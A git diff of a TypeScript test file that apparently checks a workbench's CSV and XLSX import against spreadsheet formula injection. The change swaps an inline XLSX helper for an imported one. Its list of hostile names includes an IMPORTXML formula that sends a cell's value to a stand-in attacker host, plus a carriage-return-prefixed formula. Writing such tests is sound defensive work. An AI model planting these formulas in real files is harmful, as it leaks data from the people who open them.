@@ -6,7 +6,7 @@ import * as fs from 'node:fs';
 import { readTableFile } from '../../src/local/table/table-file';
 import { postAsPage, startTestWorkbench } from '../helpers/workbench-http';
 import { unguardedCells } from '../helpers/unguarded-cells';
-import * as XLSX from 'xlsx';
+import { xlsxBytes } from '../helpers/xlsx-bytes';
 
 const HOSTILE_NAMES = [
   '=IMPORTXML("http://evil.example/?"&A2,"//a")',
@@ -17,19 +17,13 @@ const HOSTILE_NAMES = [
   '\r=1+2',
 ];
 
-function xlsxBuffer(rows: string[][]): Buffer {
-  const book = XLSX.utils.book_new();
-  XLSX.utils.book_append_sheet(book, XLSX.utils.aoa_to_sheet(rows), 'Customers');
-  return XLSX.write(book, { type: 'buffer', bookType: 'xlsx' }) as Buffer;
-}
-
 describe.each([
   ['CSV', { file: 'customers.csv', text: 'Email,Name\r\nann@x.example,Ann\r\n' }],
   [
     'XLSX',
     {
       file: 'customers.xlsx',
-      text: xlsxBuffer([
+      text: xlsxBytes([
         ['Email', 'Name'],
         ['ann@x.example', 'Ann'],
       ]),
